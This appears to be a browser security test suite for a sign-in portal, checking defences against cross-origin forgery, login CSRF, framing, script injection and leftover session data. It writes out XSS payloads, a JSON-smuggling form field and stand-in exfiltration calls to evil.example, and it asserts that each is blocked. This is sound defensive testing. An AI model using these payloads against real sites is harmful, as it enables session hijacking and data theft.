// Attacks on the portal, in a real browser that has all its protections: pages of other origins, texts that would be
// scripts, what a browser remembers after signing out.

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { naughtyStrings } from '../bad-input/naughty-strings.ts';
import { onDatabase } from './fixture.ts';

let foreign: Server;
let foreignPage = '';
beforeAll(async () => {
  // Another port of this machine: another origin, but the same site, so that even a strict cookie comes along.
  foreign = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(foreignPage);
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
});
afterAll(() => {
  foreign.closeAllConnections();
  foreign.close();
});
const foreignUrl = () => `http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`;

onDatabase('sqlite', 'attacks', (fixture) => {
  test('no page of another origin can change anything with the session of its visitor [S86]', async () => {
    const { server } = fixture;
    const { page, context } = await fixture.signedInAnew(server.owner);
    fixture.tolerate(/CORS policy|Content Security Policy|ERR_/);
    const others = await fixture.signedInAnew(server.owner);
    foreignPage = '<!doctype html><title>evil</title>';
    await page.goto(foreignUrl());
    const answers = await page.evaluate(`(async () => {
      const url = ${JSON.stringify(server.url)};
      const tries = [
        ['/v1/sessions', { method: 'DELETE' }],
        ['/v1/session', { method: 'DELETE', headers: { 'x-keyward-portal': '1' } }],
        ['/v1/self', { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{"name":"evil"}' }],
        ['/v1/tokens', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"permissions":[]}' }],
        ['/v1/self', { method: 'GET' }],
      ];
      const read = [];
      for (const [path, init] of tries) {
        await fetch(url + path, { credentials: 'include', ...init }).then(async (answer) => read.push(await answer.text()), () => read.push(''));
      }
      return read;
    })()`);
    expect(answers).toEqual(['', '', '', '', '']);
    await page.goto(`${server.url}/account`);
    await page.getByText('This session').waitFor();
    expect(await page.getByLabel('Name').inputValue()).toBe('The owner');
    await others.page.reload();
    await others.page.getByRole('heading', { name: 'Hello, The owner' }).waitFor();
    expect(await page.evaluate("fetch('/v1/tokens').then((answer) => answer.json())")).toMatchObject({ items: [] });
    expect(await context.cookies()).toHaveLength(1);
  });

  test.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])(
    'nobody is signed in as somebody else by a form of another page, sent as %s [S86, S88]',
    async (type) => {
      const { server } = fixture;
      const { page, context } = await fixture.open();
      fixture.tolerate(/Failed|ERR_|Content Security Policy/);
      const { email, password } = server.owner;
      const body = JSON.stringify({ email, password, code: '' }).slice(0, -2);
      foreignPage = `<form method="post" enctype="${type}" action="${server.url}/v1/session">
        <input name='${body}' value='"}'><input name="email" value="${email}"><input name="password" value="${password}"></form>`;
      await page.goto(foreignUrl());
      const [answer] = await Promise.all([
        page.waitForResponse((response) => response.url().endsWith('/v1/session')),
        page.evaluate('document.forms[0].submit()'),
      ]);
      expect([400, 403, 415]).toContain(answer.status());
      expect(await context.cookies()).toEqual([]);
    },
  );

  test('the portal shows in no frame, and knows no window that opened it [S87, S88]', async () => {
    const { server } = fixture;
    const { page, context } = await fixture.signedIn(server.owner);
    fixture.tolerate(/frame|Content Security Policy|Refused to display/i);
    foreignPage = `<iframe src="${server.url}/account"></iframe><a id="a" target="_blank" rel="opener" href="${server.url}/account">x</a>`;
    await page.goto(foreignUrl());
    const frame = page.frames().find((one) => one !== page.mainFrame());
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
    expect(await frame?.locator('h1').count()).toBe(0);
    const [opened] = await Promise.all([context.waitForEvent('page'), page.locator('#a').click()]);
    await opened.getByRole('heading', { level: 1 }).waitFor();
    expect(await opened.evaluate('window.opener')).toBeNull();
  });

  test('a script that found its way into the page does not run, nor does a style apply [S87]', async () => {
    const { page } = await fixture.signedIn(fixture.server.owner);
    fixture.tolerate(/Content Security Policy/);
    fixture.tolerate(/unsafe-eval|EvalError/);
    await page.evaluate(`(() => {
      window.refused = new Set();
      document.addEventListener('securitypolicyviolation', (event) => window.refused.add(event.effectiveDirective));
      const host = document.createElement('div');
      document.body.append(host);
      host.innerHTML = '<img src="x:" onerror="window.ran = 1"><p style="color: red">x</p><style>p { color: red }</style><a href="javascript:window.ran=2">x</a><base href="https://evil.example/"><script>window.ran = 3</script><iframe srcdoc="<script>parent.ran = 5</script>"></iframe>';
      host.querySelector('a').click();
      const image = new Image();
      image.src = 'https://evil.example/steal.png';
      fetch('https://evil.example/steal').catch(() => {});
      // Not at once: what the test itself evaluates is exempt.
      setTimeout(() => { (0, eval)('window.ran = 4'); });
    })()`);
    await expect
      .poll(() => page.evaluate('[...window.refused].sort()'))
      .toEqual(
        expect.arrayContaining([
          'base-uri',
          'connect-src',
          'img-src',
          'script-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-attr',
          'style-src-elem',
        ]),
      );
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(await page.evaluate('document.baseURI')).toContain(fixture.server.url);
  });

  test('naughty texts in names and user agents are shown as they are and do nothing [S88]', async () => {
    const { server } = fixture;
    const { page } = await fixture.signedIn(server.admin, '/account');
    const marks = naughtyStrings.filter((text) => /[<>"'`&{}]|script|\\/.test(text));
    expect(marks.length).toBeGreaterThan(20);
    const agents = marks.filter((text) => /^[\x20-\x7e]+$/.test(text)).slice(0, 60);
    for (const agent of agents) {
      await fetch(`${server.url}/v1/session`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'user-agent': agent },
        body: JSON.stringify({ email: server.admin.email, password: server.admin.password }),
      });
    }
    await page.evaluate('window.alert = window.prompt = window.confirm = () => { window.ran = true; }');
    await page.reload();
    await page.evaluate('window.alert = () => { window.ran = true; }');
    const entries = page.getByRole('listitem').filter({ hasText: 'Signed in' });
    await expect.poll(() => entries.count()).toBeGreaterThanOrEqual(agents.length);
    for (const name of marks) {
      await page.evaluate(
        `fetch('/v1/self', { method: 'PATCH', headers: { 'content-type': 'application/json', 'x-keyward-portal': '1' }, body: ${JSON.stringify(JSON.stringify({ name: name.slice(0, 100) }))} })`,
      );
    }
    for (const name of ['"><img src=x onerror=alert(1)>', '<script>alert(1)</script>', "{{7*7}}'--"]) {
      await page.getByLabel('Name').fill(name);
      await page.getByRole('button', { name: 'Save' }).click();
      await page.getByRole('button', { name: `Account: ${name}` }).waitFor();
      expect(
        await page
          .getByRole('button', { name: /^Account/ })
          .locator('img, script')
          .count(),
      ).toBe(0);
    }
    expect(await page.evaluate('window.ran')).toBeUndefined();
  });

  test('after signing out nothing is left, in this tab or another, and back shows nothing [S85, S91]', async () => {
    const { server } = fixture;
    const { page, context } = await fixture.signedInAnew(server.owner);
    await page.goto(`${server.url}/account`);
    const other = await context.newPage();
    await other.goto(`${server.url}/account`);
    await other.getByText('This session').waitFor();
    await page.getByRole('button', { name: /^Account/ }).click();
    await page.getByRole('menuitemradio', { name: 'Dark' }).click();
    await page.locator('html[data-mantine-color-scheme=dark]').waitFor();
    const [answer] = await Promise.all([
      page.waitForResponse((response) => response.request().method() === 'DELETE'),
      page.getByRole('menuitem', { name: 'Sign out' }).click(),
    ]);
    expect((await answer.allHeaders())['clear-site-data']).toBe('"cache", "cookies", "storage"');
    await page.waitForURL(`${server.url}/sign-in`);
    await other.waitForURL(`${server.url}/sign-in`);
    expect(await context.cookies()).toEqual([]);
    await page.goBack();
    await page.waitForURL(/\/sign-in/);
    await page.getByLabel('E-mail').waitFor();
    expect(await page.getByText(server.owner.email).count()).toBe(0);
    // Light or dark is the one thing that a browser may remember of its user.
    await page.locator('html[data-mantine-color-scheme=dark]').waitFor();
    expect(await page.evaluate('JSON.stringify(localStorage)')).toBe('{"keyward-scheme":"dark"}');
  });

  test('a page that one left and comes back to is loaded anew, not taken out of memory [S8, S91]', async () => {
    const { page, context } = await fixture.signedIn(fixture.server.owner, '/account');
    await page.getByText('This session').waitFor();
    await page.goto('about:blank');
    await context.clearCookies();
    await page.goBack();
    await page.waitForURL(/\/sign-in/);
    await page.getByLabel('E-mail').waitFor();
    expect(await page.getByText(fixture.server.owner.email).count()).toBe(0);
  });
});
